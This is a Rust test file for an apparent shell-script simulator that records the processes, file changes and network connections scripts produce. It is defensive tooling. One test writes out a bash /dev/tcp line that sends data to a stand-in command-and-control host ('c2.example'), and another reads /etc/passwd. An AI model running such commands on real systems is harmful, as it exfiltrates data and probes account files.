//! What scripts do: processes, files, and connections.

use misfire::activity::{ActivityKind, FileChangeKind};
use misfire::stage::simulate::world::CommandOutcome;

use super::Host;

#[test]
fn builtins_start_no_process_and_programs_do() {
    let mut host = Host::bash();
    host.run("echo a; cd /tmp; x=$(pwd); [ -n \"$x\" ]; printf b; insmod 'a b.ko'; /bin/echo c");
    assert_eq!(host.command_lines(), ["insmod a b.ko", "/bin/echo c"]);
}

#[test]
fn a_subshell_is_no_process_start() {
    let mut host = Host::bash();
    host.run("(cd /opt; (foo a)); x=$(bar b); echo c | baz");
    assert_eq!(host.command_lines(), ["foo a", "bar b", "baz"]);
    let folders: Vec<String> = host
        .world
        .activities()
        .iter()
        .filter(|traced| traced.activity.kind == ActivityKind::ProcessStarted)
        .filter_map(|traced| traced.activity.process.as_ref())
        .map(|process| process.directory.clone())
        .collect();
    assert_eq!(folders, ["/opt", "/home/avery", "/home/avery"]);
}

#[test]
fn a_redirection_belongs_to_its_own_command() {
    let mut host = Host::sh();
    host.run("true || echo a > /tmp/no; echo b > /tmp/yes c; echo d >> /tmp/yes");
    assert_eq!(
        host.files(),
        [
            ("/tmp/yes".to_owned(), FileChangeKind::Created),
            ("/tmp/yes".to_owned(), FileChangeKind::Written),
        ]
    );
    assert_eq!(host.text("/tmp/yes"), "b c\nd\n");
}

#[test]
fn what_is_written_can_be_read_again() {
    let mut host = Host::sh();
    let said = host.said(
        "cat > /tmp/s.sh <<'E'\n#!/bin/sh\necho \"ran $1 $0\"\nE\nchmod +x /tmp/s.sh; /tmp/s.sh one; sh /tmp/s.sh two; . /tmp/s.sh",
    );
    assert_eq!(said, "ran one /tmp/s.sh\nran two /tmp/s.sh\nran  dash\n");
    assert_eq!(
        host.command_lines(),
        [
            "cat",
            "chmod +x /tmp/s.sh",
            "/bin/sh /tmp/s.sh one",
            "sh /tmp/s.sh two"
        ]
    );
}

#[test]
fn globs_stand_for_the_files_that_are_known() {
    let mut host = Host::bash();
    let said = host.said("mkdir /tmp/g; touch /tmp/g/b.txt /tmp/g/a.txt /tmp/g/.h; cd /tmp/g; echo *.txt; echo /tmp/g/?.txt; echo *.nope");
    assert_eq!(said, "a.txt b.txt\n/tmp/g/a.txt /tmp/g/b.txt\n*.nope\n");
}

#[test]
fn a_command_in_the_background_has_its_process_id() {
    let mut host = Host::bash();
    let said = host.said("ping -c 1 localhost >/dev/null & echo $!");
    let activities = host.world.activities();
    let process = activities
        .iter()
        .find_map(|traced| traced.activity.process.as_ref())
        .expect("a process");
    assert_eq!(said, format!("{}\n", process.id));
}

#[test]
fn sleep_lets_time_pass() {
    let mut host = Host::sh();
    let before = host.world.now();
    host.run("sleep 30");
    let passed = host.world.now().duration_since(before).as_secs();
    assert!((30..32).contains(&passed), "{passed}");
}

#[test]
fn bash_opens_connections_itself() {
    let mut host = Host::bash();
    host.run("echo hi > /dev/tcp/c2.example/443");
    let connections = host.world.activities().iter();
    let ports: Vec<u16> = connections
        .filter_map(|traced| match &traced.activity.kind {
            ActivityKind::Connection(connection) => Some(connection.destination_port),
            _ => None,
        })
        .collect();
    assert_eq!(ports, [443]);
    assert!(host.files().is_empty());
}

#[test]
fn each_simple_command_is_accounted_for() {
    let mut host = Host::bash();
    host.run("x=$(frobnicate); echo $x\nif true; then cat /etc/passwd | grep root; fi\nfi oops");
    let commands: Vec<(&str, usize)> = host
        .world
        .commands()
        .iter()
        .map(|command| (command.text.as_str(), command.depth))
        .collect();
    assert_eq!(
        commands,
        [
            ("x=$(frobnicate)", 0),
            ("frobnicate", 1),
            ("echo $x", 0),
            ("true", 0),
            ("cat /etc/passwd", 0),
            ("grep root", 0),
            ("fi oops", 0),
        ]
    );
    let outcomes = host.world.commands().iter();
    let only_started = outcomes
        .clone()
        .filter(|command| command.outcome == CommandOutcome::OnlyStarted)
        .count();
    assert_eq!(only_started, 1);
    assert!(matches!(
        outcomes.last().map(|command| &command.outcome),
        Some(CommandOutcome::NotInterpreted { .. })
    ));
}

#[test]
fn variables_are_handed_to_programs_when_they_are_exported() {
    let mut host = Host::bash();
    let said = host.said("A=1; export B=2; C=3 env | grep '^[ABC]='; printenv A; echo $?");
    assert_eq!(said, "B=2\nC=3\n1\n");
}

#[test]
fn sudo_runs_as_root() {
    let mut host = Host::bash();
    assert_eq!(
        host.said("sudo id -u; sudo -u root whoami; whoami"),
        "0\nroot\navery\n"
    );
    assert_eq!(
        host.command_lines(),
        [
            "sudo id -u",
            "id -u",
            "sudo -u root whoami",
            "whoami",
            "whoami"
        ]
    );
}

#[test]
fn the_posix_shell_lacks_what_only_bash_has() {
    let mut host = Host::sh();
    assert_eq!(host.said("[[ a == a ]] && echo yes; echo $?"), "127\n");
    let mut host = Host::sh();
    assert_eq!(
        host.said("echo {a,b}; [ a == a ] || echo no"),
        "{a,b}\nno\n"
    );
}

#[test]
fn what_a_command_line_says_flows_through_a_file_and_filters() {
    let mut host = Host::sh();
    host.run(
        "cloud() { echo; echo 'Starting session with SessionId: avery-0ab1'; }
(echo id; sleep 10) | cloud start > /tmp/log 2>&1
status=$?
cat /tmp/log
exit $status",
    );
    host.run(
        "id=$(sed -n 's/.*SessionId: *//p' /tmp/log 2>/dev/null | head -n 1 | tr -cd 'A-Za-z0-9.@_-')
if test -n \"$id\"; then close --session-id \"$id\"; fi
rm -f /tmp/log",
    );
    assert!(
        host.command_lines()
            .contains(&"close --session-id avery-0ab1".to_owned())
    );
    assert!(
        host.files()
            .contains(&("/tmp/log".to_owned(), FileChangeKind::Deleted))
    );
}
